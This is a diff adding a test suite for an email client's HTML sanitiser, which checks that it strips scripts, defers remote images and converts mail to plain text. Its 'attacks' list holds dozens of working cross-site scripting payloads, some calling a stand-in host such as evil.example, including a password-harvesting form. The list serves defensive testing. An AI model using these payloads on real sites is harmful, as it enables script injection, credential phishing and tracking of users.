@@ -1,0 +1,199 @@
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+import { sanitiseHtml } from './sanitise.ts';
+
+const safe = (html: string) => sanitiseHtml(html).html;
+
+/** Html that tries to run, to fetch, to send or to cover something. */
+const attacks: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<script\u0000>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" OnErRoR="alert(1)">',
+  '<img src=x:x onerror=alert(1)//',
+  '<img """><script>alert(1)</script>">',
+  '<img src=javascript:alert(1)>',
+  '<img src="jav&#x09;ascript:alert(1)">',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<img src="data:text/html,<script>alert(1)</script>">',
+  '<img srcset="https://t.example/a.png 1x" src="cid:a">',
+  '<img data-luuri-src="javascript:alert(1)">',
+  '<img src="cid:a" data-luuri-src="https://t.example/forged">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" &#14;  javascript:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="/api/tickets/1/close">x</a>',
+  '<a href="//evil.example/x">x</a>',
+  '<a href="https://x.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
+  '<svg onload=alert(1)><g/></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x.swf"><embed src="x.swf"></object>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import url(https://evil.example/x.css); body{display:none}</style>',
+  '<style><img src="</style><img src=x onerror=alert(1)//">',
+  '<p style="background:url(https://t.example/p.gif)">x</p>',
+  '<p style="background-color:url(javascript:alert(1))">x</p>',
+  '<p style="color:expression(alert(1))">x</p>',
+  '<p style="color:r\\65 d;behavior:url(x.htc)">x</p>',
+  '<p style="color:red;/**/position:fixed;top:0">x</p>',
+  '<p style="-moz-binding:url(x.xml#y)">x</p>',
+  '<div style="position:absolute;z-index:9999;width:100%">x</div>',
+  '<table background="https://t.example/p.gif"><td background="https://t.example/p.gif">x</table>',
+  '<body onload=alert(1) background="https://t.example/p.gif">x</body>',
+  '<video poster="https://t.example/p.jpg"><source src="https://t.example/v.mp4"></video>',
+  '<audio src="https://t.example/a.mp3" autoplay>',
+  '<input type=image src="https://t.example/p.gif">',
+  '<isindex action="javascript:alert(1)">',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<plaintext><script>alert(1)</script>',
+  '<!--><script>alert(1)</script>-->',
+  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '<p id="login" class="modal" name="x">x</p>',
+  '<a name="cookie" id="cookie">x</a>',
+  '<font color="red;x:url(a)">x</font>',
+  '<p/onclick=alert(1)/>x',
+  '<p "onclick=alert(1)>x',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
+];
+
+const allowed = new Set(
+  'a abbr b blockquote br caption center cite code col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins li ol p pre s small span strike strong sub sup table tbody td tfoot th thead tr tt u ul'.split(
+    ' ',
+  ),
+);
+const allowedAttributes =
+  /^(?:colspan|rowspan|align|valign|dir|lang|start|color|style|href|rel|target|src|data-luuri-src|alt|width|height)$/;
+
+/** Looks at what came out with eyes of its own: each tag, each attribute, each address. */
+function expectHarmless(html: string): void {
+  for (const [, name = '', rest = ''] of html.matchAll(/<\/?([^\s>/]*)((?:[^>"]|"[^"]*")*)>/g)) {
+    expect(allowed).toContain(name);
+    const found = [...rest.matchAll(/\s([^\s=>"]+)(?:="([^"]*)")?/g)];
+    expect(
+      found.map(([, attribute]) => attribute).filter((attribute) => attribute !== '/' && !allowedAttributes.test(attribute ?? '')),
+    ).toEqual([]);
+    for (const [, attribute, value = ''] of found) {
+      if (attribute === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:)/i);
+      if (attribute === 'src') expect(value).toMatch(/^(?:cid:|data:image\/(?:png|gif|jpe?g|webp);base64,)/i);
+      if (attribute === 'data-luuri-src') expect(value).toMatch(/^https?:\/\//i);
+      if (attribute === 'style') expect(value).not.toMatch(/url|expression|position|[\\@/<{]|&[^a]/i);
+    }
+  }
+  expect(html.replace(/<\/?[a-z][a-z0-9]*(?:[^>"]|"[^"]*")*>/g, '')).not.toMatch(/[<>]/);
+}
+
+describe('html of a stranger', () => {
+  it.each(attacks)('%s', (attack) => {
+    const { html, text } = sanitiseHtml(`<p>ennen</p>${attack}`);
+    expectHarmless(html ?? '');
+    expect(text).toContain('ennen');
+    expect(html).not.toContain('forged');
+  });
+
+  it('is harmless after sanitising, whatever it is', () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...attacks),
+      fc.constantFrom('<', '>', '"', "'", '</', '<!--', '-->', '=', '&', ';', 'on', 'x'),
+      fc.string(),
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
+        expectHarmless(safe(pieces.join('')) ?? '');
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  it('does not change when it is sanitised again', () => {
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...attacks), { maxLength: 4 }), (pieces) => {
+        const once = safe(pieces.join('')) ?? '';
+        // a picture that waits to be asked for has no src any more
+        expect(safe(once)?.replaceAll(/<img[^>]*>/g, '')).toBe(once.replaceAll(/<img[^>]*>/g, ''));
+      }),
+    );
+  });
+
+  it('keeps what makes a mail readable', () => {
+    const html =
+      '<h1>Vika</h1><ul><li><b>yksi</b></li></ul><table><tr><td colspan="2" style="color: #C00; text-align:right">2</td></tr></table>';
+    expect(safe(html)).toBe(
+      '<h1>Vika</h1><ul><li><b>yksi</b></li></ul><table><tr><td colspan="2" style="color:#c00;text-align:right">2</td></tr></table>',
+    );
+  });
+
+  it('opens links elsewhere and tells nobody where they stood', () => {
+    const link = '<a href="https://x.example/a?b=1&amp;c=2">x</a>';
+    expect(safe(link)).toBe('<a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>');
+    expect(safe('<a href="mailto:ada@acme.example">x</a>')).toContain('href="mailto:ada@acme.example"');
+  });
+
+  it('fetches no picture, but keeps where it is', () => {
+    expect(safe('<img src="https://t.example/p.gif?u=1" width="1" alt="logo">')).toBe(
+      '<img data-luuri-src="https://t.example/p.gif?u=1" alt="logo" width="1" />',
+    );
+    expect(safe('<img src="cid:logo@x">')).toBe('<img src="cid:logo@x" />');
+    expect(safe('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe('<img src="data:image/png;base64,iVBORw0KGgo=" />');
+  });
+});
+
+describe('the text of html', () => {
+  const text = (html: string) => sanitiseHtml(html).text;
+
+  it('has a line for each block and break, a blank line around a paragraph', () => {
+    expect(text('<div>yksi</div><div>kaksi<br>kolme</div><p>neljä</p><p>viisi\n kuusi</p>')).toBe(
+      'yksi\nkaksi\nkolme\n\nneljä\n\nviisi kuusi',
+    );
+  });
+
+  it('marks lists, quotations and links that do not show their address', () => {
+    expect(text('<ul><li>a</li><li>b</li></ul>')).toBe('- a\n- b');
+    expect(text('<p>Kiitos</p><blockquote>On 1.1. Ben wrote:<blockquote>vanha</blockquote></blockquote>')).toBe(
+      'Kiitos\n\n> On 1.1. Ben wrote:\n\n> > vanha',
+    );
+    expect(text('<a href="https://x.example/a">ohje</a> <a href="https://x.example/">x.example</a>')).toBe(
+      'ohje (https://x.example/a) x.example',
+    );
+  });
+
+  it('decodes entities and keeps what stands in pre', () => {
+    expect(text('5 &lt; 6 &amp;&amp; &quot;ä&auml;&quot;&nbsp;x')).toBe('5 < 6 && "ää" x');
+    expect(text('<pre>a\n  b</pre>')).toBe('a\n  b');
+    expect(text('<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>')).toBe('a b\nc');
+  });
+
+  it('leaves out scripts, styles and titles', () => {
+    expect(text('<title>t</title><style>p{}</style><script>x</script>näkyy')).toBe('näkyy');
+  });
+
+  it('is not made when it is not wanted', () => {
+    expect(sanitiseHtml('<p>x</p>', false)).toEqual({ html: '<p>x</p>', text: '' });
+  });
+
+  it('is all that is saved of html nested too deep, and soon', () => {
+    expect(sanitiseHtml(`<p>alku</p>${'<b>'.repeat(300_000)}loppu<script>x</script>`)).toEqual({ html: undefined, text: 'alku loppu' });
+    expect(safe(`${'<div>'.repeat(250)}x`)).toContain('x');
+  });
+});
